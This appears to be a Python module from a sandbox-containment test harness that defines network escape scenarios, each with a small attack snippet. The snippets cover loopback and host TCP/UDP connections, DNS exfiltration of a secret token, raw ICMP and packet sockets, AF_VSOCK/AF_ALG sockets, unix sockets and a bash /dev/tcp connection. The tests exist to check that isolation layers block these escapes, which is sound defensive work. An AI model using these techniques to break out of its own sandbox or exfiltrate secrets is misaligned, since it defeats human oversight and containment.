"""Network escapes: reaching anything but the allow-listed gateway."""

from __future__ import annotations

import socket
from collections.abc import Callable

from sentinel.breakout.arena import Arena
from sentinel.breakout.scenario import UNPRIVILEGED_UID, Family, Scenario
from sentinel.breakout.scenarios.judges import egress_dropped, listener_received

N = Family.NETWORK
UID = UNPRIVILEGED_UID
GATEWAY_ONLY = (
    "the target lives in Sentinel's gateway namespace, which the host itself cannot reach; "
    "the loopback and host-address scenarios are the controls for the same layers"
)


def _needs(channel: str) -> Callable[[Arena], str | None]:
    def precondition(arena: Arena) -> str | None:
        return None if arena.facts["ports"].get(channel) else f"no {channel} listener on this host"

    return precondition


def _host_family(family: int, kind: int) -> Callable[[Arena], str | None]:
    def precondition(arena: Arena) -> str | None:
        try:
            socket.socket(family, kind).close()
        except OSError as exc:
            return f"this kernel refuses the socket family itself ({exc.strerror})"
        return None

    return precondition


def _needs_host_ip(arena: Arena) -> str | None:
    return None if arena.host_ip else "this host has no non-loopback IPv4 address"


TCP_GREETING = """
def attack(A):
    with socket.create_connection(({host}, A["ports"][{channel!r}]), timeout=3) as conn:
        data = conn.recv(256)
    if A["token"].encode() in data:
        escaped(f"connected to the host's {channel} service")
    blocked("reached a different service")
"""

UDP_SEND = """
def attack(A):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.sendto(("exfil " + A["run"]).encode(), ({host}, A["ports"][{channel!r}]))
    attempted("sent a datagram with the secret")
"""

SCENARIOS = [
    Scenario("net-tcp-loopback", N, "connect to a TCP service on the host's loopback",
             ("netns", "landlock"), TCP_GREETING.format(host='"127.0.0.1"', channel="tcp")),
    Scenario("net-tcp-host-address", N, "connect to a TCP service on the host's own address",
             ("netns", "landlock"), TCP_GREETING.format(host='A["host_ip"]', channel="host_tcp"),
             precondition=_needs_host_ip),
    Scenario("net-tcp-ipv6", N, "connect to a TCP service on the host's IPv6 loopback",
             ("netns", "landlock"), """
def attack(A):
    with socket.create_connection(("::1", A["ports"]["tcp6"]), timeout=3) as conn:
        data = conn.recv(256)
    if A["token"].encode() in data:
        escaped("connected to the host's IPv6 service")
    blocked("reached a different service")
""", precondition=_needs("tcp6")),
    Scenario("net-udp-loopback", N, "send a UDP datagram to a host service on loopback", ("netns",),
             UDP_SEND.format(host='"127.0.0.1"', channel="udp"), judge=listener_received("udp")),
    Scenario("net-udp-host-address", N, "send a UDP datagram to the host's own address", ("netns",),
             UDP_SEND.format(host='A["host_ip"]', channel="host_udp"),
             judge=listener_received("host_udp"), precondition=_needs_host_ip),
    Scenario("net-dns-exfiltration", N, "exfiltrate the secret in a DNS query to a resolver",
             ("netns",), """
def attack(A):
    labels = [A["run"], "exfil", "example"]
    query = struct.pack(">HHHHHH", 0x5E17, 0x0100, 1, 0, 0, 0)
    query += b"".join(bytes([len(l)]) + l.encode() for l in labels) + b"\\0" + struct.pack(">HH", 1, 1)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.sendto(query, ("127.0.0.1", A["ports"]["dns"]))
    attempted("sent a DNS query carrying the secret")
""", judge=listener_received("dns")),
    Scenario("net-dns-via-gateway", N, "send a DNS query through the gateway's network (UDP 53)",
             ("netns",), """
def attack(A):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.sendto(b"exfil " + A["token"].encode(), (A["gateway"]["address"], 53))
    time.sleep(0.2)
    attempted("sent a datagram to the gateway address, port 53")
""", judge=egress_dropped, control_skip=GATEWAY_ONLY),
    Scenario("net-gateway-other-port", N, "connect to a port of the gateway host that is not allowed",
             ("netns", "landlock"), """
def attack(A):
    with socket.create_connection((A["gateway"]["address"], A["gateway"]["other"]), timeout=2) as conn:
        data = conn.recv(256)
    escaped(f"reached a non-allowed gateway port: {data[:40]!r}")
""", control_skip=GATEWAY_ONLY),
    Scenario("net-icmp", N, "ping the host's address with a raw ICMP socket", ("netns", UID), """
def attack(A):
    try:
        sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
    except PermissionError:
        sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
    with sock:
        sock.settimeout(2)
        body = struct.pack(">BBHHH", 8, 0, 0, 0x5E17, 1) + b"sentinel"
        total = sum(struct.unpack(">%dH" % (len(body) // 2), body))
        total = (total >> 16) + (total & 0xFFFF); total += total >> 16
        body = body[:2] + struct.pack(">H", ~total & 0xFFFF) + body[4:]
        sock.sendto(body, (A["host_ip"], 0))
        reply, peer = sock.recvfrom(1024)
    escaped(f"the host at {peer[0]} answered a ping")
""", precondition=_needs_host_ip),
    Scenario("net-packet-socket", N, "open a raw packet socket (sniff or forge frames)",
             ("seccomp", UID), """
def attack(A):
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3)):
        escaped("opened an AF_PACKET raw socket")
"""),
    Scenario("net-vsock", N, "open an AF_VSOCK socket (to the hypervisor, beyond any netns)",
             ("seccomp",), """
def attack(A):
    with socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM):
        escaped("created an AF_VSOCK socket: a path out that no network namespace filters")
""", precondition=_host_family(socket.AF_VSOCK, socket.SOCK_STREAM)),
    Scenario("net-alg-socket", N, "open an AF_ALG socket (kernel crypto API attack surface)",
             ("seccomp",), """
def attack(A):
    with socket.socket(socket.AF_ALG, socket.SOCK_SEQPACKET):
        escaped("created an AF_ALG socket")
""", precondition=_host_family(socket.AF_ALG, socket.SOCK_SEQPACKET)),
    Scenario("net-unix-path", N, "connect to a host service's unix socket by path", ("bwrap",), """
def attack(A):
    target(A["service_socket"])
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as sock:
        sock.settimeout(3)
        sock.connect(A["service_socket"])
        data = sock.recv(256)
    if A["token"].encode() in data:
        escaped("connected to the host service's unix socket")
    blocked("reached a different service")
"""),
    Scenario("net-unix-abstract", N, "connect to a host service's abstract unix socket",
             ("netns", "landlock"), """
def attack(A):
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as sock:
        sock.settimeout(3)
        sock.connect("\\0" + A["abstract_socket"])
        data = sock.recv(256)
    if A["token"].encode() in data:
        escaped("connected to the host service's abstract unix socket")
    blocked("reached a different service")
"""),
    Scenario("net-bash-dev-tcp", N, "open a connection with bash's /dev/tcp", ("netns", "landlock"), """
import subprocess
def attack(A):
    script = f'exec 3<>/dev/tcp/127.0.0.1/{A["ports"]["tcp"]} && head -c 200 <&3'
    done_ = subprocess.run(["bash", "-c", script], capture_output=True, timeout=5)
    if A["token"].encode() in done_.stdout:
        escaped("bash /dev/tcp reached the host's loopback service")
    blocked(f"bash /dev/tcp failed: {done_.stderr.decode().strip()[:200]}")
"""),
]  # fmt: skip
